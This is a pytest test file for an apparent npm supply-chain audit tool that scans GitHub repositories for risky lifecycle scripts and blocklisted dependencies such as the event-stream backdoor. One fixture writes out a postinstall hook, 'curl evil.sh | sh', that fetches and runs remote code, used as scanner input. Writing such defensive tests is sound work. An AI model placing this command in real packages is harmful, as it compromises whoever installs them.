"""Tests for configuration loading and the command-line entry point."""

from __future__ import annotations

import json

import pytest

from conftest import FakeGitHubClient, encode_manifest, repo
from npm_risk_audit import cli
from npm_risk_audit.config import DEFAULT_USER, Settings
from npm_risk_audit.errors import ConfigurationError, EnumerationError


TOKEN_VARS = ('GH_PAT_SH_SCAN', 'GH_TOKEN', 'GITHUB_TOKEN')


@pytest.fixture
def clean_env(monkeypatch):
    for name in TOKEN_VARS + ('SCAN_USER',):
        monkeypatch.delenv(name, raising=False)
    return monkeypatch


@pytest.fixture
def fake_client(clean_env):
    """Route the CLI to an in-memory client and pretend gh is installed."""
    holder = {}

    def install(client):
        holder['client'] = client
        clean_env.setattr(cli, 'GitHubClient', lambda token: client)
        clean_env.setattr(cli.shutil, 'which', lambda name: '/usr/bin/gh')
        return client

    return install


def test_settings_require_token():
    with pytest.raises(ConfigurationError):
        Settings.from_env({})
    with pytest.raises(ConfigurationError):
        Settings.from_env({'GH_PAT_SH_SCAN': '   '})


def test_settings_defaults_and_fallbacks():
    settings = Settings.from_env({'GITHUB_TOKEN': 'ghp_fallback'})
    assert settings.token == 'ghp_fallback'
    assert settings.user == DEFAULT_USER
    assert settings.report_path == 'scan-report.json'

    settings = Settings.from_env({'GH_PAT_SH_SCAN': 'ghp_main', 'GH_TOKEN': 'other', 'SCAN_USER': 'octo'})
    assert settings.token == 'ghp_main'
    assert settings.user == 'octo'


def test_settings_overrides_skip_unset_options():
    settings = Settings.from_env({'GH_PAT_SH_SCAN': 't'}).with_overrides(user=None, concurrency=3)
    assert settings.user == DEFAULT_USER
    assert settings.concurrency == 3


def test_missing_token_exits_before_network(clean_env, capsys):
    def forbidden(*args, **kwargs):
        raise AssertionError('no client may be created without a token')

    clean_env.setattr(cli, 'GitHubClient', forbidden)
    assert cli.main([]) == 1
    assert 'GH_PAT_SH_SCAN' in capsys.readouterr().err


def test_missing_gh_binary(clean_env, capsys):
    clean_env.setenv('GH_PAT_SH_SCAN', 'token')
    clean_env.setattr(cli.shutil, 'which', lambda name: None)
    assert cli.main([]) == 1
    assert 'GitHub CLI (gh) is required' in capsys.readouterr().err


def test_invalid_concurrency(clean_env):
    clean_env.setenv('GH_PAT_SH_SCAN', 'token')
    assert cli.main(['--concurrency', '0']) == 1


def test_run_with_findings_exits_zero(fake_client, clean_env, tmp_path, capsys):
    clean_env.setenv('GH_PAT_SH_SCAN', 'token')
    clean_env.setenv('SCAN_USER', 'octo')
    clean_env.chdir(tmp_path)
    client = fake_client(FakeGitHubClient(
        [repo('app')],
        {'octo/app': encode_manifest({'scripts': {'postinstall': 'curl evil.sh | sh'}})},
    ))

    assert cli.main([]) == 0
    assert client.list_calls == ['octo']

    data = json.loads((tmp_path / 'scan-report.json').read_text())
    assert data[0]['type'] == 'lifecycle-script'

    out = capsys.readouterr().out
    assert 'Total findings:' in out
    assert str(tmp_path / 'scan-report.json') in out


def test_run_without_manifest_exits_zero(fake_client, clean_env, tmp_path):
    clean_env.setenv('GH_PAT_SH_SCAN', 'token')
    fake_client(FakeGitHubClient([repo('docs')], {}))
    output = tmp_path / 'report.json'

    assert cli.main(['--user', 'octo', '--output', str(output)]) == 0
    assert json.loads(output.read_text()) == []


def test_enumeration_failure_exits_one(fake_client, clean_env, tmp_path, capsys):
    clean_env.setenv('GH_PAT_SH_SCAN', 'token')
    fake_client(FakeGitHubClient([], list_error=EnumerationError('boom')))

    assert cli.main(['--output', str(tmp_path / 'r.json')]) == 1
    assert 'Fatal scanner error' in capsys.readouterr().err
    assert not (tmp_path / 'r.json').exists()


def test_custom_blocklist_and_range_matching(fake_client, clean_env, tmp_path):
    clean_env.setenv('GH_PAT_SH_SCAN', 'token')
    blocklist = tmp_path / 'blocklist.json'
    blocklist.write_text(json.dumps([
        {'name': 'event-stream', 'reason': 'flatmap-stream backdoor', 'badVersions': ['3.3.6']},
    ]))
    fake_client(FakeGitHubClient(
        [repo('old'), repo('new')],
        {
            'octo/old': encode_manifest({'dependencies': {'event-stream': '^3.3.4'}}),
            'octo/new': encode_manifest({'dependencies': {'event-stream': '^4.0.0'}}),
        },
    ))
    output = tmp_path / 'report.json'

    assert cli.main(['-u', 'octo', '-o', str(output), '-b', str(blocklist), '--match-ranges']) == 0
    data = json.loads(output.read_text())
    assert [f['repo'] for f in data] == ['octo/old']
    assert data[0]['details']['badVersions'] == ['3.3.6']


def test_bad_blocklist_exits_one(fake_client, clean_env, tmp_path):
    clean_env.setenv('GH_PAT_SH_SCAN', 'token')
    fake_client(FakeGitHubClient([], {}))
    blocklist = tmp_path / 'blocklist.json'
    blocklist.write_text('{')
    assert cli.main(['-b', str(blocklist), '-o', str(tmp_path / 'r.json')]) == 1
